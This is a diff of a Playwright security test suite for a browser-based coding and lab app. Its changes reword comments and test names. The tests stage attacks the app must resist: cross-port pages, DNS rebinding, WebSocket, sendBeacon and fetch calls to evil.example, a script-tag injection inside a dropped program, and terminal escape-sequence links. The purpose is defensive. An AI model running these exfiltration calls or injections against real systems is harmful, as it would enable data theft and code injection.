@@ -1,5 +1,5 @@
-// Attacks on the window in Chromium: by pages of other sites and ports, by untrusted text (a lab, a pipeline,
-// program output), and by anything that would run, load, or navigate inside the page.
+// Tests attacks on the window in Chromium: pages of other sites and ports, untrusted text (a lab, a
+// pipeline, program output), and attempts to run, load, or navigate inside the page.
 import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
 import { tmpdir } from 'node:os';
@@ -150,7 +150,7 @@ afterAll(async () => {
 });
 
 describe('a page of another site', () => {
-  /** Everything that a page at that address can do to the window's server. */
+  /** Everything that a page at that address can try against the window's server. */
   async function attempts(from: string): Promise<Record<string, string>> {
     const evil = await window.context.newPage();
     await evil.goto(from);
@@ -219,7 +219,7 @@ describe('a page of another site', () => {
         socket: await socket(),
       };
     }, address());
-    // A page that it opened is isolated from it, so it cannot close it either.
+    // The opened page is isolated from its opener, so the opener cannot close it either.
     for (const left of window.context.pages()) if (left !== page()) await left.close();
     return found;
   }
@@ -251,12 +251,12 @@ describe('a page of another site', () => {
     cookiesSeen.length = 0;
     const { hostname } = new URL(address());
     expect(await attempts(`http://${hostname}:${otherPort}/`)).toEqual(nothing);
-    // An attacker needs the host name, which is new with each start and appears in no command line.
+    // The attacker needs the host name, which changes at each start and appears on no command line.
     expect(cookiesSeen.join()).toContain(`fathom-${window.server.port}=`);
     expect(await hacked()).toBe(null);
   });
 
-  it('reads nothing under a host name that was rebound to this machine', async () => {
+  it('reads nothing through a host name that was rebound to this machine', async () => {
     const rebound = await window.context.newPage();
     const response = await rebound.goto(`http://evil.example:${window.server.port}/`);
     expect(response?.status()).toBe(403);
@@ -320,8 +320,8 @@ describe('the page', () => {
         () => new WebSocket('ws://evil.example/'),
         () => navigator.sendBeacon('http://evil.example/', 'x'),
       ];
-      // As the page's own script, because policies do not apply to a test's evaluations. Some throw, all are
-      // reported.
+      // These run as the page's own script because policies do not apply to a test's evaluations. Some
+      // attempts throw, and all are reported.
       for (const attempt of tries) setTimeout(() => void new Promise(() => attempt()).catch(() => undefined));
       await fetch('http://evil.example/').catch(() => undefined);
       // Reports arrive one by one, slowly on a busy machine.
@@ -352,7 +352,7 @@ describe('the page', () => {
     await tab.close();
   });
 
-  it('still applies the styles of editor, terminal, and drawings', async () => {
+  it('still applies the styles of the editor, terminal, and drawings', async () => {
     await typeAndCompile(page(), 'int x = arg * 2; return x;');
     const style = (selector: string, property: string): Promise<string> =>
       page()
@@ -392,7 +392,7 @@ describe('a lab by another author', () => {
 
   it('is shown as text: nothing in it runs, applies styles, or loads', async () => {
     const text = (): Promise<string> => guide().getByTestId('guide').innerText();
-    // The course has a separate page, from which its labs are opened.
+    // The course has a separate page from which its labs are opened.
     if (!(await text()).includes('eleven'))
       await guide().getByTestId('guide').getByText('hostile').first().click();
     await eventually(text, (all) => all.includes('eleven'));
@@ -443,7 +443,7 @@ describe('formulas and tables by another author', () => {
       });
     }, selector);
 
-  it('do not extend beyond their area', async () => {
+  it('are not drawn outside their area', async () => {
     await page().getByTestId('next-step').click();
     await prose().getByText('The last line of the text.').waitFor();
     for (const outside of ['[data-testid=graph]', '[data-testid=editor]', 'header', '[data-testid=timeline]'])
@@ -494,7 +494,7 @@ describe('a dropped file', () => {
     inputs,
     literals: [literal],
   });
-  /** Well-formed, with hostile contents. */
+  /** A well-formed file with hostile contents. */
   const pipeline = JSON.stringify({
     nodes: [
       node('start', [], [], nasty),
@@ -526,7 +526,7 @@ describe('a dropped file', () => {
     expect(window.complaints).toEqual([]);
   });
 
-  it('is not run if it would access files or call functions', async () => {
+  it('does not run if it accesses files or calls functions', async () => {
     const refused = attacks.flatMap(({ text, refused: why }) => (why === undefined ? [] : { text, why }));
     for (const [i, { text, why }] of refused.filter((_, at) => at % 8 === 0).entries()) {
       const name = `attack-${i}`;
@@ -545,7 +545,7 @@ describe('a dropped file', () => {
     }
   });
 
-  it('runs nothing in the page if it is a program', async () => {
+  it('runs nothing in the page if the file is a program', async () => {
     const program = `// ${nasty} </script><script>globalThis.hacked='comment'</script>\nreturn 1;`;
     await dragFiles(page(), [{ name: 'a.simple', content: program }], 'dragenter', 'drop');
     await eventually(
@@ -557,10 +557,13 @@ describe('a dropped file', () => {
   });
 });
 
-/** Clicks a place in a terminal's line like a user: links are detected when the pointer arrives. */
+/**
+ * Moves the pointer to a place in a terminal line and clicks, because links are detected when the pointer
+ * arrives.
+ */
 async function pressOn(terminal: string, text: string, column: number): Promise<void> {
   const row = page().locator(`${terminal} .xterm-rows > div`, { hasText: text }).last();
-  // An element that is being redrawn has no box.
+  // An element that is being redrawn has no bounding box.
   const box = await eventually(
     () => row.boundingBox(),
     (found) => found !== null,
@@ -578,7 +581,6 @@ async function pressOn(terminal: string, text: string, column: number): Promise<
       return width / 100;
     });
   const [x, y] = [box.x + (column + 0.5) * cell, box.y + box.height / 2];
-  // Links are detected one line at a time, when the pointer arrives.
   await page().mouse.move(x, box.y - box.height);
   await page().mouse.move(x, y, { steps: 3 });
   await page().evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done))));
@@ -588,7 +590,7 @@ async function pressOn(terminal: string, text: string, column: number): Promise<
 describe('terminal output', () => {
   const question = (): Locator => page().getByTestId('link-question');
   const asked = (): Promise<string> => page().getByTestId('link-address').innerText();
-  /** Output may move the line away from the pointer, so retry like a user. */
+  /** Output may move the line away from the pointer, so a click is retried. */
   async function pressUntilAsked(terminal: string, text: string, column: number): Promise<void> {
     for (let tries = 0; tries < 5 && (await question().count()) === 0; tries++) {
       await pressOn(terminal, text, column);
@@ -597,13 +599,13 @@ describe('terminal output', () => {
         .catch(() => undefined);
     }
   }
-  /** The question is about this link; the previously clicked one did not ask. */
+  /** Checks that the dialog asks about this link, because the previously clicked link opened no dialog. */
   async function refuse(): Promise<void> {
     await page().keyboard.press('Escape');
     await question().waitFor({ state: 'detached' });
   }
 
-  it('opens no address that the user has not seen', async () => {
+  it('opens an address only after showing it to the user', async () => {
     await focusShell();
     const link = (target: string, text: string): string =>
       `\\033]8;;${target}\\033\\\\${text}\\033]8;;\\033\\\\\\n`;
@@ -637,7 +639,7 @@ describe('terminal output', () => {
     expect(await hacked()).toBe(null);
   });
 
-  it('controls nothing when a program runs: its sequences are text and its links ask first', async () => {
+  it('from a program shows control sequences as text and asks before opening links', async () => {
     const RUN = '[data-testid=run-output]';
     const title = await page().title();
     const sequences = [
